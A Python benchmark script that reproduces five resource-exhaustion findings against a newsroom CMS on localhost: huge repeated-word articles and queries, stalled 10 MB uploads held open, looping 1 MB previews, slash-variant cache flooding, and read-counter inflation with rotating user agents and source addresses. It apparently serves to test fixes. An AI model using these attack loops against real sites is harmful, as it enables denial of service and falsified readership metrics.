"""The attacks of issue 27 (findings 1-5 at once, and the read counter's inflation), driven by bench/attack.sh.

Only 127.0.0.1 (and, for the read bound from many addresses, 127.0.0.x) is ever contacted. Every loop stops at its
deadline; every socket is closed at the end.

    python3 bench/attack.py setup   BASE AUTHOR_EMAIL CONTRIBUTOR_EMAIL PASSWORD STATE.json
    python3 bench/attack.py attack  BASE STATE.json /SECTION/SLUG SECONDS RESULT.json [1,2,3,4,5]
    python3 bench/attack.py reads   BASE ID1,ID2,ID3 RESULT.json     (three published articles)
"""

from __future__ import annotations

import http.client
import http.cookiejar
import json
import re
import socket
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

HOSTILE_WORD = "qxz"           # finding 1: one word repeated 200,000 times in a published body
HOSTILE_REPEATS = 200_000
DRAFT_WORD = "kq"              # finding 2: a contributor's draft of "kq " × 300,000, and a query of kq × 166
DRAFT_REPEATS = 300_000
QUERY_TERMS = 166
STALLED_UPLOADS = 40           # finding 3: multipart POSTs of 10 MB that stall
UPLOAD_BYTES = 10 * 1024 * 1024
PREVIEW_BYTES = 1_000_000      # finding 4: a signed-in contributor's preview of a 1 MB body, in two loops
PREVIEW_LOOPS = 2
SEARCH_LOOPS = 2
UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"


class Newsroom:
    """A signed-in newsroom user over urllib: cookies and the CSRF token of the last page."""

    def __init__(self, base: str) -> None:
        self.base = base
        self.jar = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(self.jar))
        self.csrf = ""

    def open(self, path: str, fields: list[tuple[str, str]] | None = None, timeout: float = 120) -> tuple[int, str, str]:
        data = urllib.parse.urlencode(fields).encode() if fields is not None else None
        try:
            with self.opener.open(self.base + path, data=data, timeout=timeout) as response:
                body = response.read().decode("utf-8", "replace")
                status, url = response.status, response.url
        except urllib.error.HTTPError as error:
            body = error.read().decode("utf-8", "replace")
            status, url = error.code, error.url
        found = re.search(r'name="csrf" value="([^"]+)"', body)
        if found:
            self.csrf = found.group(1)
        return status, body, url

    def login(self, email: str, password: str) -> None:
        self.open("/newsroom/login")
        status, body, _ = self.open("/newsroom/login", [("csrf", self.csrf), ("email", email), ("password", password)])
        assert "/newsroom/logout" in body, f"login of {email} failed: {status}"

    def cookie_header(self) -> str:
        return "; ".join(f"{c.name}={c.value}" for c in self.jar)

    def article_fields(self, title: str, body: str, action: str) -> list[tuple[str, str]]:
        status, page, _ = self.open("/newsroom/articles/new")
        assert status == 200, status
        section = re.search(r'<select name="section"><option value="([^"]*)"', page).group(1)
        return [
            ("csrf", self.csrf), ("revision", "0"), ("kicker", ""), ("title", title), ("slug", ""), ("lead", "Атака."),
            ("body", body), ("section", section), ("topic", ""), ("tags", ""), ("authors", ""), ("sources", ""),
            ("action", action),
        ]


def setup(base: str, author_email: str, contributor_email: str, password: str, state_path: str) -> None:
    author = Newsroom(base)
    author.login(author_email, password)
    body = "<p>" + (HOSTILE_WORD + " ") * HOSTILE_REPEATS + "</p>"
    status, _, url = author.open("/newsroom/articles/new", author.article_fields("Повтаряща се дума", body, "publish"))
    print(f"hostile article published by an author: {status} {url}", file=sys.stderr)
    contributor = Newsroom(base)
    contributor.login(contributor_email, password)
    draft = "<p>" + (DRAFT_WORD + " ") * DRAFT_REPEATS + "</p>"
    status, _, url = contributor.open("/newsroom/articles/new", contributor.article_fields("Чернова с повторения", draft, "save"))
    print(f"repeated-word draft saved by a contributor: {status} {url}", file=sys.stderr)
    with open(state_path, "w") as f:
        json.dump({"contributor_cookie": contributor.cookie_header(), "contributor_csrf": contributor.csrf,
                   "preview_fields": contributor.article_fields("Преглед", _preview_body(), "save")}, f)


def _preview_body() -> str:
    """About PREVIEW_BYTES of paragraphs of plain words (ASCII, so the posted form stays that size too)."""
    paragraph = "<p>" + "Lorem ipsum dolor sit amet, consectetur adipiscing elit. " * 20 + "</p>"
    return paragraph * ((PREVIEW_BYTES - 100) // len(paragraph))


class Counter:
    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.values: dict[str, int] = {}
        self.times: dict[str, list[float]] = {}

    def add(self, name: str, seconds: float | None = None) -> None:
        with self.lock:
            self.values[name] = self.values.get(name, 0) + 1
            if seconds is not None:
                self.times.setdefault(name, []).append(seconds)


def _host_port(base: str) -> tuple[str, int]:
    host, port = base.removeprefix("http://").split(":")
    return host, int(port)


def _request(base: str, method: str, path: str, body: bytes | None = None, headers: dict | None = None,
             timeout: float = 120) -> int:
    host, port = _host_port(base)
    connection = http.client.HTTPConnection(host, port, timeout=timeout)
    try:
        connection.request(method, path, body=body, headers=headers or {})
        response = connection.getresponse()
        response.read()
        return response.status
    finally:
        connection.close()


def _loop(deadline: float, counter: Counter, name: str, action) -> None:
    while time.monotonic() < deadline:
        started = time.monotonic()
        try:
            status = action(deadline - started)
            counter.add(f"{name} {status}", time.monotonic() - started)
        except (OSError, http.client.HTTPException) as error:
            counter.add(f"{name} {type(error).__name__}", time.monotonic() - started)
            time.sleep(0.05)


def _stalled_upload(base: str, deadline: float, counter: Counter, held: list) -> None:
    """Headers of a 10 MB anonymous multipart POST, then as much of the body as the server takes, then nothing."""
    host, port = _host_port(base)
    sock = socket.create_connection((host, port), timeout=10)
    held.append(sock)
    boundary = "----attack"
    head = (f"POST /newsroom/media HTTP/1.1\r\nHost: {host}\r\nContent-Type: multipart/form-data; boundary={boundary}\r\n"
            f"Content-Length: {UPLOAD_BYTES + 200}\r\n\r\n").encode()
    part = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"x.png\"\r\n\r\n").encode()
    sock.sendall(head + part)
    sock.settimeout(0.5)
    sent = 0
    chunk = b"\0" * 65536
    outcome = "stalled"
    while sent < UPLOAD_BYTES and time.monotonic() < deadline:
        try:
            sent += sock.send(chunk)
        except socket.timeout:
            # The server reads no more: see whether it has answered or closed.
            try:
                answer = sock.recv(64)
                outcome = answer.split(b"\r\n")[0].decode(errors="replace") if answer else "closed"
                break
            except socket.timeout:
                continue
            except OSError:
                outcome = "reset"
                break
        except OSError:
            outcome = "reset"
            break
    counter.add(f"upload {outcome} after {sent // (1024 * 1024)} MB" if outcome == "stalled" else f"upload {outcome}")
    # Hold it (stalled) until the deadline, or until the server closes it.
    while time.monotonic() < deadline:
        try:
            if sock.recv(4096) == b"":
                counter.add("upload closed by the server while held")
                return
        except socket.timeout:
            continue
        except OSError:
            counter.add("upload reset by the server while held")
            return


def attack(base: str, state_path: str, page: str, seconds: float, result_path: str, which: set[int]) -> None:
    state = json.load(open(state_path))
    state["page"] = page
    deadline = time.monotonic() + seconds
    counter = Counter()
    held: list[socket.socket] = []
    threads: list[threading.Thread] = []

    def spawn(target, *args) -> None:
        thread = threading.Thread(target=target, args=args, daemon=True)
        threads.append(thread)
        thread.start()

    # 1. Searches for the hostile word (page and API).
    for n in range(SEARCH_LOOPS if 1 in which else 0):
        path = ("/search?q=" if n % 2 == 0 else "/api/search?q=") + HOSTILE_WORD
        spawn(_loop, deadline, counter, "search hostile word",
              lambda left, path=path: _request(base, "GET", path, timeout=max(1, left + 5)))
    # 2. The repeated-term query.
    query = "/search?q=" + urllib.parse.quote(" ".join([DRAFT_WORD] * QUERY_TERMS))
    if 2 in which:
        spawn(_loop, deadline, counter, "search repeated terms",
              lambda left: _request(base, "GET", query, timeout=max(1, left + 5)))
    # 3. Stalled 10 MB uploads, anonymous.
    for _ in range(STALLED_UPLOADS if 3 in which else 0):
        spawn(_stalled_upload, base, deadline, counter, held)
    # 4. Looping previews by the signed-in contributor.
    preview = urllib.parse.urlencode([tuple(pair) for pair in state["preview_fields"]]).encode()
    headers = {"Cookie": state["contributor_cookie"], "Content-Type": "application/x-www-form-urlencoded"}
    for _ in range(PREVIEW_LOOPS if 4 in which else 0):
        spawn(_loop, deadline, counter, "preview 1 MB",
              lambda left: _request(base, "POST", "/newsroom/preview", preview, headers, timeout=max(1, left + 5)))
    # 5. Slash variants of an article's path: each used to render and take a place of its own in the page cache.
    section, slug = state["page"].strip("/").split("/")
    variants = iter(range(10**9))
    lock = threading.Lock()

    def slash_variant(left: float) -> int:
        with lock:
            n = next(variants)
        path = "/" * (1 + n % 40) + section + "/" * (1 + n // 40 % 40) + slug + "/" * (n // 1600 % 10)
        return _request(base, "GET", path, headers={"User-Agent": UA}, timeout=10)

    if 5 in which:
        spawn(_loop, deadline, counter, "slash variant", slash_variant)

    for thread in threads:
        thread.join(timeout=max(0, deadline - time.monotonic()) + 30)
    for sock in held:
        try:
            sock.close()
        except OSError:
            pass
    summary = {}
    for name, count in sorted(counter.values.items()):
        times = sorted(counter.times.get(name, []))
        summary[name] = {"count": count}
        if times:
            summary[name]["median_s"] = round(times[len(times) // 2], 3)
            summary[name]["max_s"] = round(times[-1], 3)
    json.dump(summary, open(result_path, "w"), indent=1, ensure_ascii=False)


def _total(base: str, article_id: int, source: str) -> int:
    """The article's count as a beacon from `source` sees it (a beacon that counts itself if it may)."""
    host, port = _host_port(base)
    connection = http.client.HTTPConnection(host, port, timeout=10, source_address=(source, 0))
    try:
        connection.request("POST", f"/api/reads/{article_id}?total=1", headers={"User-Agent": UA + " probe", "Content-Length": "0"})
        response = connection.getresponse()
        response.read()
        return int(response.getheader("Vestnik-Reads") or -1)
    finally:
        connection.close()


def _inflate(base: str, article_id: int, sources: list[str], seconds: float) -> dict:
    """Beacons as fast as they are answered from `sources`, a new user agent every time, for `seconds`."""
    before = _total(base, article_id, "127.0.0.1")
    deadline = time.monotonic() + seconds
    statuses: dict[str, int] = {}
    lock = threading.Lock()
    host, port = _host_port(base)

    def flood(source: str, worker: int) -> None:
        n = 0
        connection = None
        while time.monotonic() < deadline:
            n += 1
            try:
                if connection is None:
                    connection = http.client.HTTPConnection(host, port, timeout=10, source_address=(source, 0))
                agent = f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{worker}.{n}.0.0 Safari/537.36"
                connection.request("POST", f"/api/reads/{article_id}", headers={"User-Agent": agent, "Content-Length": "0"})
                response = connection.getresponse()
                response.read()
                key = str(response.status)
                if response.status == 429:
                    time.sleep(float(response.getheader("Retry-After") or 1) / 10)
            except (OSError, http.client.HTTPException) as error:
                key = type(error).__name__
                connection = None
            with lock:
                statuses[key] = statuses.get(key, 0) + 1

    threads = [threading.Thread(target=flood, args=(source, i), daemon=True) for i, source in enumerate(sources)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(seconds + 30)
    time.sleep(1.5)  # the counter flushes every second; the total read back includes unflushed reads anyway
    after = _total(base, article_id, "127.0.0.1")
    # The probe (a reader of its own, from 127.0.0.1) counted in `before` and is a repeat in `after`.
    return {"addresses": len(sources), "seconds": seconds, "beacons": sum(statuses.values()), "answers": statuses,
            "counted": after - before, "before": before, "after": after}


def reads(base: str, ids: list[int], result_path: str) -> None:
    one = _inflate(base, ids[0], ["127.0.0.1"], 60)
    twenty = _inflate(base, ids[1], [f"127.0.0.{n}" for n in range(2, 22)], 10)
    # Readers behind one shared address (an office NAT) in another /24: 30 colleagues, each with their own browser,
    # read one story once.
    office_before = _total(base, ids[2], "127.0.0.1")
    host, port = _host_port(base)
    for n in range(30):
        connection = http.client.HTTPConnection(host, port, timeout=10, source_address=("127.0.1.1", 0))
        agent = f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/13{n % 10}.0.{n}.0 Safari/537.36"
        connection.request("POST", f"/api/reads/{ids[2]}", headers={"User-Agent": agent, "Content-Length": "0"})
        connection.getresponse().read()
        connection.close()
    office_after = _total(base, ids[2], "127.0.0.1")
    office = {"readers": 30, "counted": office_after - office_before}
    json.dump({"one_address_60s": one, "twenty_addresses_10s": twenty, "office_nat_30_readers": office},
              open(result_path, "w"), indent=1)


if __name__ == "__main__":
    command = sys.argv[1]
    if command == "setup":
        setup(*sys.argv[2:7])
    elif command == "attack":
        attack(sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5]), sys.argv[6],
               {int(n) for n in (sys.argv[7] if len(sys.argv) > 7 else "1,2,3,4,5").split(",")})
    elif command == "reads":
        reads(sys.argv[2], [int(n) for n in sys.argv[3].split(",")], sys.argv[4])
    else:
        sys.exit(f"unknown command {command}")
